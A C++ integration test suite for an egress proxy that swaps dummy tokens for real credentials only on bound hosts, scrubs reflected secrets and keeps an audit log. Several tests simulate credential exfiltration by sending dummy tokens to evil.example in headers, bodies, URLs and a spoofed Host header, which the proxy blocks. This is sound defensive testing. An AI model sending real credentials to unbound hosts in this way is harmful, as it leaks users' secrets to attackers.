// bottle-egress, started as bottle starts it (bottle_egress_argv), held to the tests
// the mitmproxy addon it replaced passed: driven by curl, against a fake HTTPS
// upstream reached through a parent proxy standing in for pipelock. All on 127.0.0.1 with certificates made here;
// nothing leaves the machine. The fake upstream logs what it receives, so "never reached upstream" is checked, not
// assumed. Token values are test strings; assertions test booleans so none is printed.

#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <boost/json.hpp>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <optional>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "../unit/temp_dir.hpp"
#include "bottle/core/base64url.hpp"
#include "bottle/core/error.hpp"
#include "bottle/core/subprocess.hpp"
#include "bottle/egress/egress_audit.hpp"
#include "bottle/egress/egress_config.hpp"
#include "net_harness.hpp"
#include "test_paths.hpp"

namespace fs = std::filesystem;
using namespace std::chrono_literals;

namespace {

using namespace net_harness;

const std::string codex_dummy = "dummy-codex-access-0001";
const std::string claude_dummy = "dummy-claude-key-0002";
const std::string broken_dummy = "dummy-broken-0003";

struct Reply {
  int status = 0;
  std::string body;
};

// Everything one test needs: certificates, fake network, bottle-egress.
class Egress {
 public:
  // `bottle_dummies`: all the bottle's dummies, as credential forwarding renders them.
  // `audit_max_bytes`: write the audit log settings bottle writes at start (egress_audit.hpp).
  explicit Egress(const std::vector<bottle::EgressRoute>& routes, const std::vector<std::string>& bottle_dummies = {},
                  std::optional<std::uint64_t> audit_max_bytes = std::nullopt) {
    const fs::path& d = dir_.path();
    if (audit_max_bytes) {
      fs::create_directories(d / "conf");
      write_file(d / "conf" / "audit.json", bottle::render_egress_audit_config("audited", *audit_max_bytes));
    }
    make_certs(d);
    net_.emplace(std::vector<std::string>{"python3", fake_net_script(), "serve", (d / "server.pem").string(),
                                          (d / "server.key").string(), (d / "ports.json").string(),
                                          upstream_log().string(), (d / "parent.log").string()},
                 d / "fake_net.out");
    REQUIRE(wait_until([&] { return fs::exists(d / "ports.json"); }, 20s));
    const auto ports = boost::json::parse(read_file(d / "ports.json")).as_object();
    const auto parent_port = ports.at("parent").as_int64();

    write_file(d / "routes.json", bottle::render_egress_routes(routes, bottle_dummies));
    port_ = free_port();
    egress_.emplace(egress_test_argv(d, port_, static_cast<std::uint16_t>(parent_port)), egress_log());
    const bool up = wait_until([&] { return !egress_->running() || port_open(port_); }, 30s);
    INFO("egress log:\n" << read_file(egress_log()));
    REQUIRE(up);
    REQUIRE(egress_->running());
    REQUIRE(fs::exists(ca()));
  }

  fs::path path(const std::string& name) const { return dir_.path() / name; }
  fs::path egress_log() const { return path("egress.log"); }
  fs::path audit_log() const { return path("conf/audit.jsonl"); }
  fs::path upstream_log() const { return path("upstream.log"); }
  fs::path ca() const { return path("conf/mitmproxy-ca-cert.pem"); }
  std::uint16_t port() const { return port_; }

  Reply curl(const std::string& url, const std::vector<std::string>& extra = {}) const {
    std::vector<std::string> argv = {"curl",       "-sS",
                                     "--max-time", "20",
                                     "--noproxy",  "",
                                     "--proxy",    "http://127.0.0.1:" + std::to_string(port_),
                                     "--cacert",   ca().string(),
                                     "-w",         "\n%{http_code}",
                                     url};
    argv.insert(argv.end(), extra.begin(), extra.end());
    const auto r = run(argv);
    INFO("curl stderr: " << r.err);
    REQUIRE(r.ok());
    const auto nl = r.out.rfind('\n');
    return {std::stoi(r.out.substr(nl + 1)), r.out.substr(0, nl)};
  }

  // GET `url_path` on `host` through egress with one header (fake_net.py fetch): the
  // raw response as the bottle read it, and when its first body bytes and its end came.
  struct Fetched {
    int status = 0;
    std::string raw;
    double first_data_s = -1;
    double end_s = -1;
  };
  Fetched fetch(const std::string& host, const std::string& url_path, const std::string& header,
                const std::string& value) const {
    const auto out = path("fetched-" + std::to_string(++fetches_));
    const auto r = run({"python3", fake_net_script(), "fetch", std::to_string(port_), ca().string(), host, url_path,
                        header, value, out.string()});
    INFO("fetch stderr: " << r.err);
    REQUIRE(r.ok());
    const auto o = boost::json::parse(r.out).as_object();
    Fetched f{.status = static_cast<int>(o.at("status").as_int64()), .raw = read_file(out)};
    if (o.at("first_data_s").is_double()) f.first_data_s = o.at("first_data_s").as_double();
    f.end_s = o.at("end_s").as_double();
    return f;
  }

  // Header `name` of the request the upstream received for `url_path`; nullopt if it
  // received none, "<none>" if the request lacked the header.
  std::optional<std::string> upstream_header(const std::string& url_path, const std::string& name) const {
    std::istringstream lines(read_file(upstream_log()));
    for (std::string line; std::getline(lines, line);) {
      const auto rec = boost::json::parse(line).as_object();
      if (rec.at("path").as_string() != url_path) continue;
      const auto& headers = rec.at("headers").as_object();
      return headers.contains(name) ? std::string(headers.at(name).as_string()) : "<none>";
    }
    return std::nullopt;
  }

 private:
  TempDir dir_;
  std::optional<Daemon> net_;
  std::optional<Daemon> egress_;
  std::uint16_t port_ = 0;
  mutable int fetches_ = 0;
};

bottle::EgressRoute route(std::string name, std::string host, std::string header, std::string dummy,
                          const fs::path& file, std::string pointer = "") {
  return {.name = std::move(name),
          .hosts = {std::move(host)},
          .header = std::move(header),
          .dummy = std::move(dummy),
          .value_file = file.string(),
          .value_json_pointer = std::move(pointer)};
}

}  // namespace

TEST_CASE("egress: real credentials on bound hosts only, fresh from the host file", "[egress]") {
  TempDir host;  // the host's credential files
  const auto codex_file = host.path() / "auth.json";
  const auto claude_file = host.path() / "claude-key";
  write_file(codex_file, R"({"tokens": {"access_token": "real-codex-one"}})");
  write_file(claude_file, "  real-claude-key\n");
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token"),
                 route("claude", "api.anthropic.com", "x-api-key", claude_dummy, claude_file),
                 route("broken", "broken.example", "Authorization", broken_dummy, host.path() / "absent")});
  const std::string bearer = "Authorization: Bearer " + codex_dummy;

  // Bound host: the dummy inside the header becomes the real value (pointer, trimmed file).
  CHECK(egress.curl("https://chatgpt.com/models", {"-H", bearer}).status == 200);
  CHECK(egress.upstream_header("/models", "Authorization") == "Bearer real-codex-one");
  CHECK(egress.curl("https://api.anthropic.com/v1/messages", {"-H", "x-api-key: " + claude_dummy}).status == 200);
  CHECK(egress.upstream_header("/v1/messages", "x-api-key") == "real-claude-key");
  // No dummy: passed through untouched.
  CHECK(egress.curl("https://chatgpt.com/plain", {"-H", "Authorization: Bearer other"}).status == 200);
  CHECK(egress.upstream_header("/plain", "Authorization") == "Bearer other");

  // A dummy anywhere in a request to a host it is not bound to: 403, never forwarded.
  const std::string blocked = "blocked by bottle egress: credential for codex sent to evil.example\n";
  const auto in_header = egress.curl("https://evil.example/leak-header", {"-H", bearer});
  CHECK(in_header.status == 403);
  CHECK(in_header.body == blocked);
  CHECK(egress.curl("https://evil.example/leak-body", {"--data", "token=" + codex_dummy}).body == blocked);
  CHECK(egress.curl("https://evil.example/leak-url?t=" + codex_dummy).status == 403);
  const auto other_route = egress.curl("https://api.anthropic.com/leak-cross", {"-H", bearer});
  CHECK(other_route.status == 403);
  CHECK(other_route.body == "blocked by bottle egress: credential for codex sent to api.anthropic.com\n");
  // A Host naming another server than the tunnel's: the front end refuses the request
  // (400) before any credential decision (the addon answered 403); never forwarded.
  const auto spoofed = egress.curl("https://chatgpt.com/leak-host", {"-H", bearer, "-H", "Host: evil.example"});
  CHECK(spoofed.status == 400);
  CHECK(egress.curl("https://evil.example/fine").status == 200);  // the host itself is reachable
  for (const auto* p : {"/leak-header", "/leak-body", "/leak-cross", "/leak-host"}) {
    INFO(p);
    CHECK_FALSE(egress.upstream_header(p, "Authorization"));
  }
  CHECK_FALSE(egress.upstream_header("/leak-url?t=" + codex_dummy, "Authorization"));

  // A host-side refresh (atomic rename) is used by the very next request.
  replace_file(codex_file, R"({"tokens": {"access_token": "real-codex-two"}})");
  CHECK(egress.curl("https://chatgpt.com/after-refresh", {"-H", bearer}).status == 200);
  CHECK(egress.upstream_header("/after-refresh", "Authorization") == "Bearer real-codex-two");

  // The real value cannot be read: 502 with a clear message, the dummy is not forwarded.
  const auto unavailable = egress.curl("https://broken.example/x", {"-H", "Authorization: " + broken_dummy});
  CHECK(unavailable.status == 502);
  CHECK(contains(unavailable.body, "credential for broken is unavailable"));
  CHECK_FALSE(egress.upstream_header("/x", "Authorization"));

  // The WebSocket upgrade request (how Codex streams turns) gets the swap too.
  const auto ws = run({"python3", fake_net_script(), "ws", std::to_string(egress.port()), egress.ca().string(),
                       "chatgpt.com", "/backend-api/codex/responses", "Authorization", "Bearer " + codex_dummy});
  INFO("ws client stderr: " << ws.err);
  CHECK(ws.out == "HTTP/1.1 101 Switching Protocols\nhello\n");
  CHECK(egress.upstream_header("/backend-api/codex/responses", "Authorization") == "Bearer real-codex-two");

  // The log is JSON lines naming host, route and action; no real value, no dummy.
  const auto log = read_file(egress.egress_log());
  for (const auto* secret : {"real-codex-one", "real-codex-two", "real-claude-key"}) CHECK_FALSE(contains(log, secret));
  for (const auto& dummy : {codex_dummy, claude_dummy, broken_dummy}) CHECK_FALSE(contains(log, dummy));
  CHECK(logged(log, {{"event", "blocked"}, {"host", "evil.example"}, {"route", "codex"}}));
  CHECK(logged(log, {{"event", "blocked"}, {"host", "broken.example"}, {"route", "broken"}}));
}

TEST_CASE("egress: a bad routes file stops egress before it listens (fail closed)", "[egress]") {
  TempDir dir;
  write_file(dir.path() / "routes.json",
             R"({"version": 1, "routes": [{"name": "x", "hosts": ["a.example"], "header": "A", "dummy": "short",)"
             R"( "value_file": "/nonexistent"}]})");
  auto argv = egress_test_argv(dir.path(), free_port(), std::nullopt);
  argv.insert(argv.begin(), {"timeout", "60"});
  const auto r = run(argv);
  INFO("stdout: " << r.out << "\nstderr: " << r.err);
  CHECK(r.outcome == bottle::ProcessResult::Outcome::exited);
  CHECK(r.code == bottle::exit_code::invalid_input);
  CHECK(contains(r.err, "routes[0].dummy: must be at least 8 characters"));
  CHECK_FALSE(contains(r.out, "ready"));
}

namespace {

// A real value with characters every encoding changes: "/" (JSON "\/", URL %2F),
// "+", "<", ">", "&", "=" (Go's JSON \u003c..., URL-encoded), so each encoding is
// a different string and a scan of the raw form alone would miss it.
const std::string reflected_real = "real/codex+tok<en>&x=y_0123456789abcdef";

std::string url_encoded(const std::string& s) {
  static const char* hex = "0123456789ABCDEF";
  std::string out;
  for (const unsigned char c : s) {
    if (std::isalnum(c) || c == '-' || c == '_' || c == '.' || c == '~') {
      out += static_cast<char>(c);
    } else {
      out += {'%', hex[c >> 4], hex[c & 15]};
    }
  }
  return out;
}

std::string go_json_escaped(std::string s) {
  std::string out;
  for (const char c : s) {
    if (c == '/') out += "\\/";
    else if (c == '<') out += "\\u003c";
    else if (c == '>') out += "\\u003e";
    else if (c == '&') out += "\\u0026";
    else out += c;
  }
  return out;
}

std::string std_base64(const std::string& bytes) {
  std::string s = bottle::base64url_encode(bytes);
  for (char& c : s) c = c == '-' ? '+' : c == '_' ? '/' : c;
  return s;
}

// Base64 (either alphabet, padded or not) decoded.
std::string decode_base64(std::string s) {
  while (!s.empty() && s.back() == '=') s.pop_back();
  for (char& c : s) c = c == '+' ? '-' : c == '/' ? '_' : c;
  return bottle::base64url_decode(s, "test line");
}

// Every form of the real value the bottle must never read: as-is, JSON-escaped,
// URL-encoded, base64 at each byte offset (its inner groups, either alphabet).
bool holds_real(const std::string& read) {
  if (contains(read, reflected_real) || contains(read, url_encoded(reflected_real)) ||
      contains(read, go_json_escaped(reflected_real)))
    return true;
  for (const std::string pad : {"", "x", "xy"}) {
    const std::string enc = std_base64(pad + reflected_real);
    const std::string inner = enc.substr(4, enc.size() - 8);  // groups holding value bytes only
    std::string url_inner = inner;
    for (char& c : url_inner) c = c == '+' ? '-' : c == '/' ? '_' : c;
    if (contains(read, inner) || contains(read, url_inner)) return true;
  }
  return false;
}

}  // namespace

TEST_CASE("egress: a real value reflected back reaches the bottle as its dummy", "[egress][reflect]") {
  TempDir host;
  const auto codex_file = host.path() / "auth.json";
  write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")});
  const std::string bearer = "Bearer " + codex_dummy;
  const auto get = [&](const std::string& mode) {
    auto f = egress.fetch("chatgpt.com", "/reflect/" + mode, "Authorization", bearer);
    INFO(mode);  // the mode only: what was read may hold a token
    CHECK((egress.upstream_header("/reflect/" + mode, "Authorization") == "Bearer " + reflected_real));
    CHECK_FALSE(holds_real(f.raw));
    return f;
  };

  SECTION("a response header") {
    const auto f = get("header");
    CHECK(f.status == 200);
    CHECK(contains(f.raw, "X-Echo-Authorization: " + bearer + "\r\n"));
  }
  SECTION("a plain body") {
    const auto f = get("plain");
    CHECK(f.status == 200);
    CHECK(contains(f.raw, "you sent: " + bearer + "\n"));
    // The length changed with the swap: the body is sent chunked, not with the upstream's length.
    CHECK(contains(f.raw, "Transfer-Encoding: chunked\r\n"));
    CHECK_FALSE(contains(f.raw, "Content-Length"));
  }
  SECTION("a JSON-escaped body") {
    const auto f = get("json");
    CHECK(contains(f.raw, R"({"authorization": ")" + bearer + R"("})"));
  }
  SECTION("a URL-encoded body") {
    const auto f = get("url");
    CHECK(contains(f.raw, "next=Bearer%20" + codex_dummy + "&x=1"));
  }
  SECTION("base64 at every byte offset, both alphabets") {
    const auto f = get("base64");
    const auto body = f.raw.substr(f.raw.find("\r\n\r\n") + 4);
    std::istringstream lines(body);
    int decoded = 0;
    for (std::string line; std::getline(lines, line);) {
      line.erase(line.find_last_not_of("\r") + 1);
      if (line.size() < 16) continue;  // chunk sizes
      const auto text = decode_base64(line);
      CHECK_FALSE(contains(text, reflected_real));
      // All but the 2 bytes at each end that share a base64 group with other data.
      CHECK(contains(text, codex_dummy.substr(2, codex_dummy.size() - 4)));
      ++decoded;
    }
    CHECK(decoded == 6);
  }
  SECTION("a gzip body the upstream compressed although egress asked for identity") {
    const auto f = get("gzip");
    CHECK(egress.upstream_header("/reflect/gzip", "Accept-Encoding") == "identity");
    CHECK(f.status == 200);
    CHECK_FALSE(contains(f.raw, "Content-Encoding"));  // passed on decoded
    CHECK(contains(f.raw, "you sent: " + bearer + "\n"));
  }
  SECTION("an encoding egress cannot scan as it streams: 502, not the body") {
    const auto f = get("br");
    CHECK(f.status == 502);
    CHECK(contains(f.raw, "is encoded (br) and cannot be scanned for the credential"));
  }
  SECTION("a body whose value straddles two chunks") {
    const auto f = get("split");
    CHECK(f.status == 200);
    CHECK(contains(f.raw, "you sent: Bearer "));
    // Chunk framing may split the text; the dummy is whole in the chunk that carries it.
    CHECK(contains(f.raw, codex_dummy + "\n"));
  }
  SECTION("an SSE stream stays live") {
    const auto f = get("sse");
    CHECK(f.status == 200);
    CHECK(contains(f.raw, "data: first\n\n"));
    CHECK(contains(f.raw, "data: " + bearer + "\n\n"));
    // The upstream waits 1.5 s between its events: the first one got through before then.
    CHECK(f.first_data_s >= 0);
    CHECK(f.end_s - f.first_data_s > 1.0);
  }
  SECTION("a WebSocket server frame") {
    const auto ws = run({"python3", fake_net_script(), "ws", std::to_string(egress.port()), egress.ca().string(),
                         "chatgpt.com", "/reflect/ws", "Authorization", bearer});
    CHECK(ws.out == "HTTP/1.1 101 Switching Protocols\nyou sent: " + bearer + "\n");
    CHECK_FALSE(holds_real(ws.out));
  }
  SECTION("an answer to a request without a dummy is not touched") {
    const auto f = egress.fetch("chatgpt.com", "/reflect/plain", "Authorization", "Bearer other-token-123");
    CHECK(contains(f.raw, "you sent: Bearer other-token-123\n"));
    CHECK(contains(f.raw, "Content-Length: "));  // streamed as the upstream framed it
  }

  // Each reverse swap is logged with where and how it was found; never a value.
  const auto log = read_file(egress.egress_log());
  CHECK_FALSE(contains(log, reflected_real));
  CHECK_FALSE(holds_real(log));
  CHECK_FALSE(contains(log, codex_dummy));
}

TEST_CASE("egress: the reverse swap logs route, place and encoding", "[egress][reflect]") {
  TempDir host;
  const auto codex_file = host.path() / "auth.json";
  write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")});
  for (const auto* mode : {"header", "json", "base64", "plain"})
    CHECK(
        egress.fetch("chatgpt.com", std::string("/reflect/") + mode, "Authorization", "Bearer " + codex_dummy).status ==
        200);
  const auto log = read_file(egress.egress_log());
  const auto reflected = [&](const std::string& where, const std::string& encoding) {
    return logged(log, {{"event", "reflected"},
                        {"host", "chatgpt.com"},
                        {"route", "codex"},
                        {"where", where},
                        {"encoding", encoding}});
  };
  CHECK(reflected("header", "raw"));
  CHECK(reflected("body", "json"));
  // Lines that are the same in both alphabets count as base64.
  CHECK(reflected("body", "base64"));
  CHECK(reflected("body", "raw"));
  CHECK_FALSE(contains(log, reflected_real));
  CHECK_FALSE(holds_real(log));
}

TEST_CASE("egress: every dummy of a bottle is guarded, not only the access token", "[egress]") {
  TempDir host;
  const auto codex_file = host.path() / "auth.json";
  write_file(codex_file, R"({"tokens": {"access_token": "real-codex-one", "refresh_token": "real-rt"}})");
  const std::string id_dummy = "dummy-codex-id-token-0004";
  const std::string refresh_dummy = "bottle-dummy-refresh-0005";
  // Credential forwarding's route: its broker knows the bottle's dummies.
  Egress egress(
      {route("codex-chatgpt", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")},
      {id_dummy, codex_dummy, refresh_dummy});
  const std::string blocked = "blocked by bottle egress: credential for codex-chatgpt sent to evil.example\n";
  const auto refresh_bearer = egress.curl("https://evil.example/rt", {"-H", "Authorization: Bearer " + refresh_dummy});
  CHECK(refresh_bearer.status == 403);
  CHECK(refresh_bearer.body == blocked);
  const auto id_bearer = egress.curl("https://evil.example/id", {"-H", "Authorization: Bearer " + id_dummy});
  CHECK(id_bearer.status == 403);
  CHECK(id_bearer.body == blocked);
  CHECK(egress.curl("https://evil.example/rt-body", {"--data", "refresh_token=" + refresh_dummy}).status == 403);
  CHECK(egress.curl("https://api.anthropic.com/id-cross", {"-H", "x-id: " + id_dummy}).status == 403);
  for (const auto* p : {"/rt", "/id", "/rt-body", "/id-cross"}) {
    INFO(p);
    CHECK_FALSE(egress.upstream_header(p, "Host"));  // never reached upstream
  }
  // On its own bound host a guarded dummy is harmless: forwarded as is, never swapped.
  CHECK(egress.curl("https://chatgpt.com/rt-home", {"-H", "Authorization: Bearer " + refresh_dummy}).status == 200);
  CHECK(egress.upstream_header("/rt-home", "Authorization") == "Bearer " + refresh_dummy);

  const auto log = read_file(egress.egress_log());
  CHECK(logged(log, {{"event", "blocked"},
                     {"host", "evil.example"},
                     {"reason", "dummy sent to unbound host"},
                     {"route", "codex-chatgpt"}}));
  for (const auto& d : {id_dummy, refresh_dummy, codex_dummy}) CHECK_FALSE(contains(log, d));
}

namespace {

// The records of an audit log text; every line must be one.
std::vector<bottle::AuditRecord> audit_records(const std::string& text) {
  const auto lines = bottle::parse_audit_lines(text, "audit.jsonl");
  CHECK(lines.warnings.empty());
  return lines.records;
}

const bottle::AuditRecord* record_for(const std::vector<bottle::AuditRecord>& records, const std::string& path) {
  for (const auto& r : records)
    if (r.path == path) return &r;
  return nullptr;
}

}  // namespace

TEST_CASE("egress: the audit log records injected, blocked and tunneled requests, no token", "[egress][audit]") {
  TempDir host;
  const auto codex_file = host.path() / "auth.json";
  write_file(codex_file, R"({"tokens": {"access_token": ")" + reflected_real + R"("}})");
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, codex_file, "/tokens/access_token")}, {},
                std::uint64_t{1} << 20);
  const std::string bearer = "Authorization: Bearer " + codex_dummy;
  CHECK(egress.curl("https://chatgpt.com/models?key=" + codex_dummy, {"-H", bearer}).status == 200);
  CHECK(egress.fetch("chatgpt.com", "/reflect/plain", "Authorization", "Bearer " + codex_dummy).status == 200);
  CHECK(egress.curl("https://evil.example/leak-header?q=1", {"-H", bearer}).status == 403);
  CHECK(egress.curl("https://evil.example/leak/" + codex_dummy + "/x").status == 403);
  CHECK(egress.curl("https://evil.example/fine#frag", {"--data", "twelve bytes"}).status == 200);

  // A record is written when egress has finished with the flow, which can be just after curl has its answer.
  const auto lines = [&] {
    const std::string t = read_file(egress.audit_log());
    return std::count(t.begin(), t.end(), '\n');
  };
  CHECK(wait_until([&] { return lines() >= 5; }, 20s));
  const std::string text = read_file(egress.audit_log());
  // Never a token, dummy or real, in any encoding; never a header value.
  CHECK_FALSE(contains(text, codex_dummy));
  CHECK_FALSE(holds_real(text));
  CHECK_FALSE(contains(text, "Bearer"));
  const auto records = audit_records(text);
  CHECK(records.size() == 5);
  const auto* injected = record_for(records, "/models");  // the query string is gone
  REQUIRE(injected);
  CHECK(injected->action == "injected");
  CHECK(injected->route == "codex");
  CHECK(injected->reason == "credential swapped");
  CHECK(injected->bottle == "audited");
  CHECK(injected->method == "GET");
  CHECK(injected->host == "chatgpt.com");
  CHECK(injected->port == 443);
  CHECK(injected->status == 200);
  const auto* reflected = record_for(records, "/reflect/plain");
  REQUIRE(reflected);
  CHECK(reflected->action == "injected");
  CHECK(reflected->bytes_down > 0);  // counted as the scrubbed body streamed
  const auto* header_leak = record_for(records, "/leak-header");
  REQUIRE(header_leak);
  CHECK(header_leak->action == "blocked");
  CHECK(header_leak->status == 403);
  CHECK(header_leak->reason == "dummy sent to unbound host");
  CHECK(header_leak->host == "evil.example");
  const auto* path_leak = record_for(records, "/leak/[redacted]/x");  // a dummy in the path is redacted
  REQUIRE(path_leak);
  CHECK(path_leak->action == "blocked");
  const auto* fine = record_for(records, "/fine");
  REQUIRE(fine);
  CHECK(fine->action == "tunneled");
  CHECK(fine->method == "POST");
  CHECK(fine->bytes_up == 12);
  CHECK(fine->bytes_down > 0);
  CHECK(fine->status == 200);
  CHECK((fs::status(egress.audit_log()).permissions() & fs::perms::all) ==
        (fs::perms::owner_read | fs::perms::owner_write));
}

TEST_CASE("egress: the audit log rotates by size and keeps whole records", "[egress][audit]") {
  TempDir host;
  Egress egress({route("codex", "chatgpt.com", "Authorization", codex_dummy, host.path() / "absent")}, {}, 4096);
  for (int i = 0; i < 20; ++i) CHECK(egress.curl("https://evil.example/r" + std::to_string(i)).status == 200);
  // The last record is written when egress has finished with the flow, maybe just after curl returned.
  CHECK(wait_until([&] { return contains(read_file(egress.audit_log()), R"("path":"/r19")"); }, 20s));
  const fs::path rotated = egress.audit_log().string() + ".1";
  REQUIRE(fs::exists(rotated));
  // Both files together stay within the limit; the newest records are kept.
  CHECK(fs::file_size(egress.audit_log()) <= 2048);
  CHECK(fs::file_size(rotated) <= 2048);
  const auto current = audit_records(read_file(egress.audit_log()));
  const auto older = audit_records(read_file(rotated));
  REQUIRE_FALSE(current.empty());
  REQUIRE_FALSE(older.empty());
  CHECK(current.back().path == "/r19");
  CHECK(older.back().path == "/r" + std::to_string(19 - static_cast<int>(current.size())));
}

TEST_CASE("egress: a connection egress refuses is audited as refused", "[egress][audit]") {
  // No parent proxy: egress itself refuses non-public addresses (here, loopback).
  TempDir dir;
  const fs::path& d = dir.path();
  fs::create_directories(d / "conf");
  write_file(d / "conf" / "audit.json", bottle::render_egress_audit_config("audited", std::uint64_t{1} << 20));
  write_file(d / "routes.json", bottle::render_egress_routes({}, std::vector<std::string>{}));
  const auto port = free_port();
  Daemon egress(egress_test_argv(d, port, std::nullopt), d / "egress.log");
  REQUIRE(wait_until([&] { return !egress.running() || port_open(port); }, 30s));
  const auto target = free_port();  // nothing listens there; egress must not even try
  const auto r =
      run({"curl", "-sS", "--max-time", "20", "--noproxy", "", "--proxy", "http://127.0.0.1:" + std::to_string(port),
           "-o", "/dev/null", "-w", "%{http_code}", "http://127.0.0.1:" + std::to_string(target) + "/private?x=1"});
  CHECK(r.out == "502");
  CHECK(wait_until([&] { return contains(read_file(d / "conf" / "audit.jsonl"), "refused"); }, 20s));
  const auto records = audit_records(read_file(d / "conf" / "audit.jsonl"));
  REQUIRE(records.size() == 1);
  CHECK(records[0].action == "refused");
  CHECK(records[0].reason == "not a public address");
  CHECK(records[0].status == 0);
  CHECK(records[0].host == "127.0.0.1");
  CHECK(records[0].port == target);
  CHECK(records[0].path == "/private");
}
